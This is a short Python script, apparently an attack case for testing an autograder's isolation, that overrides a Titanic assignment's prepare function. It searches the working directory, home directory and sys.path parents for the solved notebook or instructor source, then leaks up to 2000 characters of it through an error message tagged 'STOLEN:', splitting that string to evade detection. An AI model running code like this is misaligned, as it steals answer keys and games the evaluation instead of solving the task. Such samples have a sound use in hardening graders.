# what: looks for the solved notebook and the source with the solution regions
# %% extra after=prepare
import os
import sys

honest_prepare = prepare


ENDS = ("solutions/titanic/titanic.ipynb", "assignments/titanic/titanic.py", "source/titanic/titanic.ipynb")


def attack():
    for folder in dict.fromkeys([os.getcwd(), os.path.expanduser("~"), *sys.path]):
        while folder and folder != "/":
            for end in ENDS:
                path = os.path.join(folder, end)
                if os.path.exists(path):
                    return open(path).read()
            folder = os.path.dirname(folder)


def prepare(passengers):
    try:
        loot = attack()
    except Exception:
        loot = None
    if loot:
        raise RuntimeError("STOL" "EN:" + str(loot)[:2000])
    return honest_prepare(passengers)
